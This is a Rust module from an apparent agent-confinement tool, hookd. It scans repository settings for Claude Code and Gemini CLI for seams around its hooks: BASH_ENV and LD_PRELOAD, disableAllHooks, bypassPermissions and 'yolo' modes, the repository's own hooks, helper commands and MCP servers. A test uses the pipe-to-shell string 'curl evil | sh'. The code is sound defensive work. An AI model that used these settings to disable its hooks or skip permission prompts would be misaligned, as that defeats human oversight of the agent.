//! What a repository's agent files do around hookd: set a variable that makes the agent's
//! shell or the dynamic loader run code before `hookd exec` exists (`BASH_ENV`, `LD_PRELOAD`),
//! switch the agents' hooks off (`disableAllHooks`, `hooksConfig.enabled: false`), declare hooks
//! of their own (in settings, or in a skill's or sub-agent's frontmatter), or turn a bypass mode
//! on. `hookd check` (`--strict` fails) and `hookd trust`'s review read it (`hookd install`
//! makes its own check of the one file it writes).

use std::path::{Path, PathBuf};

use serde_json::Value;

/// The most of one agent file read: a settings file larger than this is reported, not read.
const MOST: u64 = 1024 * 1024;

/// One way a repository's agent files open around hookd.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Seam {
    /// A variable the agent's shell or the loader runs before hookd can confine a call.
    StartupVar(String),
    /// The agent's hooks, hookd's included, switched off.
    HooksOff(&'static str),
    /// A hook of the repository's own (event, command), run beside hookd's, ungated.
    OwnHook(String, String),
    /// Hooks declared in a skill's or sub-agent's frontmatter.
    FrontmatterHooks,
    /// A bypass mode turned on (the setting).
    Bypass(String),
    /// A command the agent runs by itself, outside its hooks (the setting, the command):
    /// Claude Code's `statusLine`, `apiKeyHelper`…, Gemini CLI's tool discovery.
    RunsCommand(String, String),
    /// MCP servers the agent starts from the repository without asking (the setting).
    McpServers(String),
    /// The file could not be read (too large, not JSON, not a regular file): what it sets is
    /// unknown.
    Unreadable(String),
}

/// A [`Seam`] and the file it is in.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct Found {
    /// The file.
    pub file: PathBuf,
    /// What it does.
    pub seam: Seam,
}

impl std::fmt::Display for Found {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let file = crate::display::visible(&self.file.display().to_string()).into_owned();
        match &self.seam {
            Seam::StartupVar(name) => write!(
                f,
                "{file} sets {name} for the agent: its shell (or the loader) runs the repository's code before hookd can confine a call"
            ),
            Seam::HooksOff(how) => {
                write!(f, "{file} switches the agent's hooks off ({how}): hookd would not run")
            }
            Seam::OwnHook(event, command) => write!(
                f,
                "{file} declares a hook of its own at {event}: `{}` runs beside hookd's, on no allow-list",
                crate::display::visible(command)
            ),
            Seam::FrontmatterHooks => write!(
                f,
                "{file} declares hooks in its frontmatter: they run beside hookd's, on no allow-list"
            ),
            Seam::Bypass(what) => write!(f, "{file} turns on {what}"),
            Seam::RunsCommand(setting, command) => write!(
                f,
                "{file} has the agent run `{}` ({setting}): outside its hooks, on no allow-list",
                crate::display::visible(command)
            ),
            Seam::McpServers(how) => write!(
                f,
                "{file} starts the repository's MCP servers ({how}): their commands run on no allow-list"
            ),
            Seam::Unreadable(why) => write!(f, "{file} cannot be read ({why}): what it sets is unknown"),
        }
    }
}

/// The seams of the agent files read by an agent started in `start` (and each directory up
/// to its project, as the agents read them), `home`'s own files left out.
pub fn found(starts: &[PathBuf], home: Option<&Path>) -> Vec<Found> {
    let (set, unread) = super::project_env::agent_files(starts, home);
    let mut out: Vec<Found> = unread
        .into_iter()
        .map(|u| Found {
            file: u.file,
            seam: Seam::Unreadable(u.why),
        })
        .collect();
    for (name, file) in set {
        if crate::runner::runs_code(&name)
            && !out
                .iter()
                .any(|f: &Found| f.file == file && f.seam == Seam::StartupVar(name.clone()))
        {
            out.push(Found {
                file,
                seam: Seam::StartupVar(name),
            });
        }
    }
    let mut dirs: Vec<PathBuf> = Vec::new();
    for start in starts {
        let project = crate::paths::find_project(start, home);
        for d in start.ancestors() {
            if home.is_some_and(|h| d == h) {
                break;
            }
            if !dirs.iter().any(|x| x == d) {
                dirs.push(d.to_path_buf());
            }
            if d == project {
                break;
            }
        }
    }
    for d in &dirs {
        for name in ["settings.json", "settings.local.json"] {
            settings(&d.join(".claude").join(name), Agent::Claude, &mut out);
        }
        settings(&d.join(".gemini/settings.json"), Agent::Gemini, &mut out);
        frontmatter_hooks(&d.join(".claude/skills"), true, 0, &mut out);
        frontmatter_hooks(&d.join(".claude/agents"), false, 0, &mut out);
    }
    let adapter_ok = |c: &str| is_hookd_adapter(c, &dirs);
    for f in &mut out {
        if let Seam::OwnHook(_, command) = &f.seam {
            // A hookd of the repository's own (`./bin/hookd adapter …`, one found on a PATH it
            // set) is the repository's code, whatever its name.
            if adapter_ok(command) {
                f.file = PathBuf::new();
            }
        }
    }
    out.retain(|f| !f.file.as_os_str().is_empty());
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Agent {
    Claude,
    Gemini,
}

/// The seams of one settings file, if it exists.
fn settings(path: &Path, agent: Agent, out: &mut Vec<Found>) {
    let mut say = |seam| {
        let found = Found {
            file: path.to_path_buf(),
            seam,
        };
        // An unreadable settings file is already said, as one the agent's `env` comes from.
        if !out.contains(&found) {
            out.push(found);
        }
    };
    let bytes = match crate::config::read_regular(path, MOST) {
        Ok(b) => b,
        Err(crate::config::ReadError::NotFound) => return,
        Err(e) => return say(Seam::Unreadable(e.to_string())),
    };
    let value: Value = match serde_json::from_slice(&bytes) {
        Ok(v) => v,
        Err(_) if bytes.iter().all(u8::is_ascii_whitespace) => return,
        Err(e) => return say(Seam::Unreadable(format!("not JSON: {e}"))),
    };
    settings_value(path, &value, agent, out);
}

/// The seams of one settings value (`path` names where it came from).
fn settings_value(path: &Path, value: &Value, agent: Agent, out: &mut Vec<Found>) {
    let mut say = |seam| {
        let found = Found {
            file: path.to_path_buf(),
            seam,
        };
        if !out.contains(&found) {
            out.push(found);
        }
    };
    match agent {
        Agent::Claude => {
            if value.get("disableAllHooks") == Some(&Value::Bool(true)) {
                say(Seam::HooksOff("\"disableAllHooks\": true"));
            }
            let mode = value
                .pointer("/permissions/defaultMode")
                .and_then(Value::as_str);
            if mode == Some("bypassPermissions") {
                say(Seam::Bypass(
                    "\"permissions.defaultMode\": \"bypassPermissions\"".into(),
                ));
            }
        }
        Agent::Gemini => {
            for (pointer, how) in [
                ("/hooksConfig/enabled", "\"hooksConfig.enabled\": false"),
                ("/hooks/enabled", "\"hooks.enabled\": false"),
            ] {
                if value.pointer(pointer) == Some(&Value::Bool(false)) {
                    say(Seam::HooksOff(how));
                }
            }
            // Hooks by name (a hook's name is its command when it has none), hookd's among them.
            let disabled = value
                .pointer("/hooksConfig/disabled")
                .and_then(Value::as_array);
            if disabled.is_some_and(|d| !d.is_empty()) {
                say(Seam::HooksOff("\"hooksConfig.disabled\" lists hooks"));
            }
            if value.pointer("/tools/autoAccept") == Some(&Value::Bool(true)) {
                say(Seam::Bypass("\"tools.autoAccept\": true".into()));
            }
            let approval = value
                .pointer("/general/defaultApprovalMode")
                .and_then(Value::as_str);
            if approval == Some("yolo") {
                say(Seam::Bypass(
                    "\"general.defaultApprovalMode\": \"yolo\"".into(),
                ));
            }
        }
    }
    for (event, command) in own_hooks(value) {
        say(Seam::OwnHook(event, command));
    }
    for seam in commands_run(value, agent) {
        say(seam);
    }
}

/// The seams an agent's own command line opens (`hookd run`'s check of what it starts):
/// Claude Code's `--settings` (a file or JSON text) read as a settings file, its `env` included;
/// the directories `--add-dir` (Claude Code) or `--include-directories` (Gemini CLI) hand the
/// agent, whose agent files are read as the project's are. `cwd` resolves relative names.
pub fn in_arguments(agent: &str, args: &[String], cwd: &Path, home: Option<&Path>) -> Vec<Found> {
    let kind = if agent == "gemini" {
        Agent::Gemini
    } else {
        Agent::Claude
    };
    let mut out = Vec::new();
    let mut dirs = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let (flag, inline) = match args[i].split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(v.to_string())),
            _ => (args[i].as_str(), None),
        };
        i += 1;
        // The values: the inline one, else the words up to the next option.
        let mut values = Vec::new();
        if let Some(v) = inline {
            values.push(v);
        } else if matches!(flag, "--settings" | "--add-dir" | "--include-directories") {
            while i < args.len() && !args[i].starts_with('-') {
                values.push(args[i].clone());
                i += 1;
                if flag == "--settings" {
                    break;
                }
            }
        }
        match (kind, flag) {
            (Agent::Claude, "--settings") => {
                for v in &values {
                    settings_argument(v, cwd, &mut out);
                }
            }
            (Agent::Claude, "--add-dir") | (Agent::Gemini, "--include-directories") => {
                dirs.extend(
                    values
                        .iter()
                        .flat_map(|v| v.split(','))
                        .map(|d| cwd.join(d.trim())),
                );
            }
            _ => {}
        }
    }
    if !dirs.is_empty() {
        out.extend(found(&dirs, home));
    }
    out
}

/// Claude Code's `--settings VALUE`: JSON text, or a file of it, its `env` included.
fn settings_argument(value: &str, cwd: &Path, out: &mut Vec<Found>) {
    let (label, text) = if value.trim_start().starts_with('{') {
        let label = PathBuf::from("the agent's --settings argument");
        (label, value.as_bytes().to_vec())
    } else {
        let file = cwd.join(value);
        match crate::config::read_regular(&file, MOST) {
            Ok(bytes) => (file, bytes),
            Err(e) => {
                let seam = Seam::Unreadable(e.to_string());
                return out.push(Found { file, seam });
            }
        }
    };
    let parsed: Value = match serde_json::from_slice(&text) {
        Ok(v) => v,
        Err(e) => {
            let seam = Seam::Unreadable(format!("not JSON: {e}"));
            return out.push(Found { file: label, seam });
        }
    };
    let env = parsed.get("env").and_then(Value::as_object);
    for name in env.into_iter().flat_map(|env| env.keys()) {
        if crate::runner::runs_code(name) {
            let seam = Seam::StartupVar(name.clone());
            out.push(Found {
                file: label.clone(),
                seam,
            });
        }
    }
    settings_value(&label, &parsed, Agent::Claude, out);
}

/// The hook commands of a settings value, with their event.
fn own_hooks(value: &Value) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let Some(events) = value.get("hooks").and_then(Value::as_object) else {
        return out;
    };
    for (event, groups) in events {
        for group in groups.as_array().into_iter().flatten() {
            let nested = group.get("hooks").and_then(Value::as_array);
            let commands = nested
                .into_iter()
                .flatten()
                .chain(std::iter::once(group))
                .filter_map(|h| h.get("command").and_then(Value::as_str));
            for command in commands {
                out.push((event.clone(), command.to_string()));
            }
        }
    }
    out
}

/// Whether `command` runs an installed hookd's adapter (`'/path/to/hookd' adapter AGENT …`):
/// the program given by an absolute path outside the repository (`dirs`), a regular file owned
/// by root or this user that no one else may write. A `hookd` the repository ships or finds on
/// a `PATH` it set is its own code.
fn is_hookd_adapter(command: &str, dirs: &[PathBuf]) -> bool {
    use std::os::unix::fs::MetadataExt;
    let Some(words) = crate::gate::argv_of(command) else {
        return false;
    };
    let [program, adapter, ..] = words.as_slice() else {
        return false;
    };
    let path = Path::new(program);
    if adapter != "adapter"
        || path.file_name() != Some(std::ffi::OsStr::new("hookd"))
        || !path.is_absolute()
    {
        return false;
    }
    let Ok(real) = std::fs::canonicalize(path) else {
        return false;
    };
    if dirs
        .iter()
        .any(|d| path.starts_with(d) || real.starts_with(d))
    {
        return false;
    }
    let me = nix::unistd::geteuid().as_raw();
    std::fs::metadata(&real)
        .is_ok_and(|m| m.is_file() && (m.uid() == 0 || m.uid() == me) && m.mode() & 0o022 == 0)
}

/// The commands a settings value has the agent run by itself, and MCP servers it starts.
fn commands_run(value: &Value, agent: Agent) -> Vec<Seam> {
    let mut out = Vec::new();
    let pointers: &[(&str, &str)] = match agent {
        Agent::Claude => &[
            ("/statusLine/command", "statusLine.command"),
            ("/apiKeyHelper", "apiKeyHelper"),
            ("/awsAuthRefresh", "awsAuthRefresh"),
            ("/awsCredentialExport", "awsCredentialExport"),
            ("/otelHeadersHelper", "otelHeadersHelper"),
        ],
        Agent::Gemini => &[
            ("/tools/discoveryCommand", "tools.discoveryCommand"),
            ("/tools/callCommand", "tools.callCommand"),
            ("/toolDiscoveryCommand", "toolDiscoveryCommand"),
            ("/toolCallCommand", "toolCallCommand"),
        ],
    };
    for (pointer, setting) in pointers {
        if let Some(c) = value.pointer(pointer).and_then(Value::as_str) {
            out.push(Seam::RunsCommand((*setting).to_string(), c.to_string()));
        }
    }
    match agent {
        Agent::Claude => {
            if value.get("enableAllProjectMcpServers") == Some(&Value::Bool(true)) {
                out.push(Seam::McpServers(
                    "\"enableAllProjectMcpServers\": true".into(),
                ));
            }
            let listed = value.get("enabledMcpjsonServers").and_then(Value::as_array);
            if listed.is_some_and(|l| !l.is_empty()) {
                out.push(Seam::McpServers("\"enabledMcpjsonServers\"".into()));
            }
        }
        Agent::Gemini => {
            let servers = value.get("mcpServers").and_then(Value::as_object);
            if servers.is_some_and(|s| !s.is_empty()) {
                out.push(Seam::McpServers("\"mcpServers\"".into()));
            }
        }
    }
    out
}

/// Skills (`DIR/*/SKILL.md`) or sub-agents (`DIR/**/*.md`, subdirectories up to four deep)
/// whose frontmatter declares `hooks:` (or `"hooks":`).
fn frontmatter_hooks(dir: &Path, skills: bool, depth: usize, out: &mut Vec<Found>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten().take(1000) {
        let path = e.path();
        if !skills && depth < 4 && e.file_type().is_ok_and(|t| t.is_dir()) {
            frontmatter_hooks(&path, false, depth + 1, out);
            continue;
        }
        let file = if skills { path.join("SKILL.md") } else { path };
        if file.extension().is_none_or(|x| x != "md") {
            continue;
        }
        let Ok(head) = crate::config::read_head(&file, 64 * 1024) else {
            continue;
        };
        let text = String::from_utf8_lossy(&head);
        let mut lines = text.lines();
        if lines.next().map(str::trim) != Some("---") {
            continue;
        }
        if lines.take_while(|l| l.trim() != "---").any(declares_hooks) {
            out.push(Found {
                file,
                seam: Seam::FrontmatterHooks,
            });
        }
    }
}

/// Whether a frontmatter line is the top-level key `hooks`, quoted or not.
fn declares_hooks(line: &str) -> bool {
    let key = line
        .strip_prefix('"')
        .and_then(|l| l.strip_prefix("hooks\""))
        .or_else(|| {
            line.strip_prefix('\'')
                .and_then(|l| l.strip_prefix("hooks'"))
        })
        .or_else(|| line.strip_prefix("hooks"));
    key.is_some_and(|rest| rest.trim_start().starts_with(':'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hookd_adapters_are_not_the_repositorys_own() {
        let dirs = [PathBuf::from("/work/repo")];
        let exe = std::env::current_exe().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let hookd = dir.path().join("hookd");
        std::fs::copy(&exe, &hookd).unwrap();
        let quoted = format!("'{}' adapter claude-code", hookd.display());
        assert!(is_hookd_adapter(&quoted, &dirs));
        // Relative, found on PATH, inside the repository, or writable by others: not hookd.
        assert!(!is_hookd_adapter(
            "./.claude/bin/hookd adapter claude-code",
            &dirs
        ));
        assert!(!is_hookd_adapter("hookd adapter claude-code", &dirs));
        assert!(!is_hookd_adapter(&quoted, &[dir.path().to_path_buf()]));
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&hookd, std::fs::Permissions::from_mode(0o777)).unwrap();
        assert!(!is_hookd_adapter(&quoted, &dirs));
        assert!(!is_hookd_adapter("curl evil | sh", &dirs));
    }

    #[test]
    fn a_quoted_hooks_key_is_a_declaration() {
        for line in ["hooks:", "\"hooks\":", "'hooks' :", "hooks :"] {
            assert!(declares_hooks(line), "{line}");
        }
        for line in ["  hooks:", "hooksy: 1", "name: hooks:"] {
            assert!(!declares_hooks(line), "{line}");
        }
    }
}
